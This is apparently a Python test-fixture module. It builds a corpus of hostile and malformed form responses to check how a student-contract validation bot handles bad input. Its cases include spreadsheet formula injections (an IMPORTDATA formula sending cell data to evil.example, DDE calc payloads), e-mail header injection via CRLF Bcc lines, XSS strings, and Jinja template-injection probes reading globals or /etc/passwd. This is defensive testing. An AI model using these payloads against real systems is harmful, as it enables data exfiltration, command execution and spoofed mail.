"""The bad-input corpus (issue #6, part 4): hostile or broken form responses, one field at a time.

Each case names the field, the hostile value and what must come of it:

- a set of rule ids (`{"date-invalide"}`): exactly these findings, and no other, on that row;
- `SAFE`: no finding at all — the value is plain text the bot carries as it is
  (literal in the text part of an e-mail, escaped in the HTML part, never a
  formula in a sheet, never evaluated as a template).

Every case starts from `BASE`, a response that is `Conforme` in 2025-2026, with
its own student address and number so that no two rows are the same student.
`media` says where the value can travel: an XLSX cell cannot hold control
characters other than tab and line breaks, so those cases skip the XLSX paths.
"""

from dataclasses import dataclass

from bot.core.fields import FIELDS

SAFE: frozenset[str] = frozenset()
FIELD_RULES = frozenset({"champ-requis", "email-invalide", "date-invalide", "valeur-inconnue", "siret-invalide"})
ALL_MEDIA = ("csv", "xlsx", "google")
NO_XLSX = ("csv", "google")
XLSX_CELL = 32_767  # what an XLSX cell holds at most (openpyxl cuts longer text there)

# Conforme in 2025-2026: an M2 professionalisation contract of exactly 12 months,
# asked for 113 days before its start (SPEC §4).
BASE: dict[str, object] = {
    "horodateur": "10/06/2025 09:14:22", "email_etudiant": "lea.martin@etu.univ-amu.fr", "nom": "Martin",
    "prenom": "Léa", "numero_etudiant": "22409071", "date_naissance": "14/03/2002", "niveau": "M2", "site": "Aix",
    "annee_validee": "Oui", "admission": "Oui", "type_contrat": "Contrat de professionnalisation",
    "entreprise": "Sopra Steria", "siret": "326 820 065 00083", "adresse_entreprise": "6 avenue Kléber, Paris",
    "rh_nom": "Claire Fontaine", "rh_email": "claire.fontaine@soprasteria.example", "rh_telephone": "0491000001",
    "tuteur_nom": "Marc Lenoir", "tuteur_email": "marc.lenoir@soprasteria.example",
    "mission": "Développeuse full-stack.", "date_debut": "01/10/2025", "date_fin": "30/09/2026",
    "documents_presentes": "Oui",
}
HEADER = [f.header for f in FIELDS]
TEXT_FIELDS = ("nom", "prenom", "numero_etudiant", "entreprise", "adresse_entreprise", "rh_nom", "rh_telephone",
               "tuteur_nom", "mission")


@dataclass(frozen=True)
class Case:
    id: str
    field: str
    value: object
    expect: frozenset[str]
    media: tuple[str, ...] = ALL_MEDIA

    @property
    def safe(self) -> bool:
        return not self.expect

    @property
    def independent(self) -> bool:
        """Its findings come from its own field alone, whatever the other fields hold (so that the findings
        of a combination of such cases are the union of theirs)."""
        return self.expect <= FIELD_RULES


def case(id: str, field: str, value: object, *expect: str, media: tuple[str, ...] = ALL_MEDIA) -> Case:
    assert field in BASE, field
    return Case(id, field, value, frozenset(expect), media)


FORMULAS = (
    ("importdata", '=IMPORTDATA("https://evil.example/x?d="&A2)'),
    ("dde", "+cmd|' /C calc'!A0"),
    ("at-sum", "@SUM(1+1)*cmd|' /C calc'!A0"),
)
KB50 = 50 * 1024

CASES: list[Case] = [
    # --- impossible or unreadable dates --------------------------------------------------------------
    case("debut-31-fevrier", "date_debut", "31/02/2025", "date-invalide"),
    case("debut-mois-13", "date_debut", "2025-13-01", "date-invalide"),
    case("debut-demain", "date_debut", "demain", "date-invalide"),
    case("debut-serial-trop-grand", "date_debut", "99999999", "date-invalide"),
    case("debut-serial-negatif", "date_debut", -45901, "date-invalide"),
    case("debut-serial-zero", "date_debut", 0, "date-invalide"),
    case("debut-annee-seule-texte", "date_debut", "1995", "date-invalide"),
    case("debut-annee-seule-nombre", "date_debut", 2025, "date-invalide"),
    case("debut-texte-apres-date", "date_debut", "01/10/2025 ou plus tard", "date-invalide"),
    case("debut-chiffres-pleine-chasse", "date_debut", "01/10/２０２５", "date-invalide"),
    case("debut-accolades-format", "date_debut", "{debut} {0} {{ 7*7 }}", "date-invalide"),
    case("debut-50ko", "date_debut", "9" * KB50, "date-invalide"),
    case("fin-30-fevrier", "date_fin", "30/02/2026", "date-invalide"),
    case("fin-zeros", "date_fin", "00/00/0000", "date-invalide"),
    case("fin-iso-jour-32", "date_fin", "2026-09-32", "date-invalide"),
    case("naissance-annee-seule", "date_naissance", "2002", "date-invalide"),
    case("naissance-mois-13", "date_naissance", "14/13/2002", "date-invalide"),
    case("naissance-hier", "date_naissance", "hier", "date-invalide"),
    case("horodateur-25h", "horodateur", "2025-06-10T25:00:00", "date-invalide"),
    case("horodateur-61min", "horodateur", "10/06/2025 24:61:00", "date-invalide"),
    case("horodateur-formule", "horodateur", "=NOW()", "date-invalide"),
    case("horodateur-apres-debut", "horodateur", "05/10/2025 10:00:00", "delai-court"),
    # --- addresses ---------------------------------------------------------------------------------------
    case("email-espace", "email_etudiant", "lea martin@etu.univ-amu.fr", "email-invalide"),
    case("email-deux-virgule", "email_etudiant", "lea@etu.univ-amu.fr, lea.perso@gmail.example", "email-invalide"),
    case("email-deux-point-virgule", "email_etudiant", "lea@etu.univ-amu.fr;lea.perso@gmail.example",
         "email-invalide"),
    case("email-nom-affiche", "email_etudiant", "Léa Martin <lea@etu.univ-amu.fr>", "email-invalide"),
    case("email-local-unicode", "email_etudiant", "léa.martin@etu.univ-amu.fr", "email-invalide"),
    case("email-crlf-bcc", "email_etudiant", "lea@etu.univ-amu.fr\r\nBcc: victime@example.org", "email-invalide"),
    case("email-formule", "email_etudiant", '=IMPORTDATA("https://evil.example/x")', "email-invalide"),
    case("email-50ko", "email_etudiant", "a" * KB50 + "@etu.univ-amu.fr", "email-invalide"),
    case("rh-email-lf-cc", "rh_email", "rh@soprasteria.example\nCc: tout-le-monde@example.org", "email-invalide"),
    case("rh-email-double-arobase", "rh_email", "rh@@soprasteria.example", "email-invalide"),
    case("rh-email-dde", "rh_email", "+cmd|' /C calc'!A0@soprasteria.example", "email-invalide"),
    case("tuteur-email-espace-domaine", "tuteur_email", "marc@sopra steria.example", "email-invalide"),
    case("tuteur-email-hyperlink", "tuteur_email", '=HYPERLINK("https://evil.example","clic")', "email-invalide"),
    case("rh-email-domaine-unicode", "rh_email", "rh@société.example"),
    # --- names with line breaks, controls and unicode (display names, subjects) -----------------------
    case("nom-crlf-bcc", "nom", "Martin\r\nBcc: victime@example.org"),
    case("prenom-lf-subject", "prenom", "Léa\nSubject: vous avez gagné"),
    case("rh-nom-crlf-entete", "rh_nom", "Claire\r\nX-Injecte: 1\r\n\r\n<b>corps</b>"),
    case("tuteur-nom-cr", "tuteur_nom", "Marc\rLenoir"),
    case("entreprise-lf-sujet", "entreprise", "ACME\r\nBcc: victime@example.org"),
    case("nom-unicode", "nom", "Ñoño-Łódź 🎓 ẞ Ωμέγα 李"),
    case("prenom-rtl-override", "prenom", "\u202eaéL"),
    case("nom-largeur-nulle", "nom", "Mar\u200btin\u200d"),
    case("nom-controles", "nom", "Mar\x00tin\x1b[31m\x07", media=NO_XLSX),
    case("mission-nul", "mission", "avant\x00après\x0b\x0c", media=NO_XLSX),
    # --- HTML and scripts --------------------------------------------------------------------------------
    case("mission-script", "mission", "<script>alert('xss')</script>"),
    case("mission-img-onerror", "mission", '<img src=x onerror="alert(1)">'),
    case("mission-lien-javascript", "mission", '"><a href="javascript:alert(1)">clic</a>'),
    case("entreprise-balises", "entreprise", "<b>ACME</b> & Fils <i>SA</i>"),
    case("nom-casse-tableau", "nom", "</td></tr></table><h1>piraté</h1>"),
    case("adresse-style", "adresse_entreprise", "<style>body{display:none}</style>1 rue X"),
    # --- template syntax ----------------------------------------------------------------------------------
    case("mission-jinja-expression", "mission", "{{ 7*7 }}"),
    case("nom-jinja-expression", "nom", "{{ 7*7 }}"),
    case("entreprise-jinja-boucle", "entreprise", "{% for i in range(99999999) %}x{% endfor %}"),
    case("prenom-jinja-globals", "prenom", "{{ self.__init__.__globals__ }}"),
    case("tuteur-jinja-commentaire", "tuteur_nom", "{# rien #}{% raw %}{{ config }}"),
    case("rh-nom-format-python", "rh_nom", "{0.__class__} %(x)s ${7*7} #{7*7} {details}"),
    case("mission-jinja-inclusion", "mission", "{% include '/etc/passwd' %}{% import 'x' as y %}"),
    # --- 50 KB cells --------------------------------------------------------------------------------------
    case("mission-50ko", "mission", ("Mission très détaillée. " * (KB50 // 24 + 1))[:KB50]),
    case("mission-50ko-sans-espace", "mission", "x" * KB50),
    case("entreprise-50ko", "entreprise", "ACME " * (KB50 // 5)),
    case("nom-50ko", "nom", "N" * KB50),
    case("siret-50ko", "siret", "1" * KB50, "siret-invalide"),
    # --- empty-looking required answers -------------------------------------------------------------------
    case("nom-espaces", "nom", "   ", "champ-requis"),
    case("mission-insecable", "mission", "\u00a0\u202f", "champ-requis"),
    case("prenom-largeur-nulle", "prenom", "\u200b\u200b", "champ-requis"),
    # --- identity that must not merge students ------------------------------------------------------------
    case("numero-zeros", "numero_etudiant", "0000"),
    case("numero-zero-nombre", "numero_etudiant", 0),
    case("numero-sans-chiffre", "numero_etudiant", "inconnu"),
    # --- enumerations and SIRET ---------------------------------------------------------------------------
    case("niveau-formule", "niveau", "=M1", "valeur-inconnue"),
    case("niveau-m1-m2", "niveau", "M1 ou M2", "valeur-inconnue"),
    case("niveau-crlf", "niveau", "M2\r\nM1", "valeur-inconnue"),
    case("type-contrat-dde", "type_contrat", "+cmd|' /C calc'!A0", "valeur-inconnue"),
    case("type-contrat-les-deux", "type_contrat", "apprentissage ou professionnalisation", "valeur-inconnue"),
    case("site-script", "site", "<script>Aix</script>", "valeur-inconnue"),
    case("annee-validee-at", "annee_validee", "@SUM(1)", "valeur-inconnue"),
    case("admission-jinja", "admission", "{{ 7*7 }}", "valeur-inconnue"),
    case("documents-oui-non", "documents_presentes", "Oui / Non", "valeur-inconnue"),
    case("siret-formule", "siret", '=IMPORTDATA("https://evil.example")', "siret-invalide"),
    case("siret-chiffres-arabes", "siret", "٣٢٦٨٢٠٠٦٥٠٠٠٨٣", "siret-invalide"),
    case("siret-cle-fausse", "siret", "326 820 065 00084", "siret-invalide"),
    # --- formula text in every text field -----------------------------------------------------------------
    *[case(f"{field}-{name}", field, formula) for field in TEXT_FIELDS for name, formula in FORMULAS],
]

assert len({c.id for c in CASES}) == len(CASES), "case ids must be unique"


def student(index: int) -> dict[str, object]:
    """BASE as student number `index`: its own address and student number."""
    return {**BASE, "email_etudiant": f"etudiant{index:03d}@etu.univ-amu.fr", "numero_etudiant": f"2240{index:04d}",
            "nom": f"Témoin{index:03d}"}


def response_of(c: Case, index: int, medium: str = "csv") -> dict[str, object]:
    """The case's response as `medium` holds it: an XLSX cell keeps its first 32,767 characters, and its
    XML turns CR LF and CR into LF."""
    value = c.value
    if medium == "xlsx" and isinstance(value, str):
        value = value[:XLSX_CELL].replace("\r\n", "\n").replace("\r", "\n")
    return {**student(index), c.field: value}


def row_of(response: dict[str, object], header: list[str] = HEADER) -> list[object]:
    by_header = {f.header: response.get(f.key, "") for f in FIELDS}
    return [by_header.get(h, "") for h in header]


@dataclass(frozen=True)
class Line:
    """One row of a corpus sheet: a hostile case, or a control row (`case` None) that must stay Conforme."""

    number: int           # the sheet row, the header being row 1
    case: Case | None
    response: dict[str, object]

    @property
    def value(self) -> object:
        """The hostile value as the row holds it."""
        return self.response[self.case.field] if self.case else None


def corpus_lines(medium: str, cases: list[Case] | None = None) -> list[Line]:
    """Control rows first, between every ten cases and last; each case on a row of its own."""
    chosen = [c for c in (CASES if cases is None else cases) if medium in c.media]
    lines, number, index = [], 2, 0

    def add(c: Case | None) -> None:
        nonlocal number, index
        index += 1
        lines.append(Line(number, c, student(index) if c is None else response_of(c, index, medium)))
        number += 1

    add(None)
    for position, c in enumerate(chosen, start=1):
        add(c)
        if position % 10 == 0:
            add(None)
    add(None)
    return lines
